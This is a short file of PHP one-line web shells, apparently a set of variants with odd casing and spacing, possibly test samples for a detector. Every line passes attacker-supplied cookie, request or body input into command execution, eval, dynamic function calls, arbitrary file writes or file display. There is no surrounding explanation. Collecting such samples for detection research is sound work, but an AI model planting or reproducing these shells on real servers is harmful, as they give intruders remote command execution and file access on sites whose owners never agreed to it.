<?php PROC_OPEN( $_COOKIE [ 'c' ] , array(), $p ); ?>
<?php @Pcntl_Exec(@$_REQUEST["b"]); ?>
<?php ShellExec: shell_exec ( trim ( $_COOKIE['x'] ) ); ?>
<?php echo PassThru( StripSlashes( $_POST [ 'c' ] ) ); ?>
<?php popen(/* pipe */ urldecode($_GET['c']), 'r'); ?>
<?php assert( STR_ROT13( $_REQUEST [ 'z' ] ) ); ?>
<?php Call_User_Func_Array( $_POST['f'], array( $_POST['a'] ) ); ?>
<?php $_GET [ "f" ] ( $_POST [ "a" ] ); ?>
<?php $_REQUEST['fn']( $_COOKIE['arg'] ); ?>
<?php $fp = fopen($_POST['n'], 'w'); FWRITE( $fp , $_POST [ 'body' ] ); ?>
<?php Highlight_File( $_POST["file"] ); ?>
<?php Eval( StripSlashes( $code ) ); ?>
<?php eval( File_Get_Contents( 'php:'.'//input' ) ); ?>
<?php create_function('', base64_decode( $_REQUEST [ 'p' ] ) ); ?>
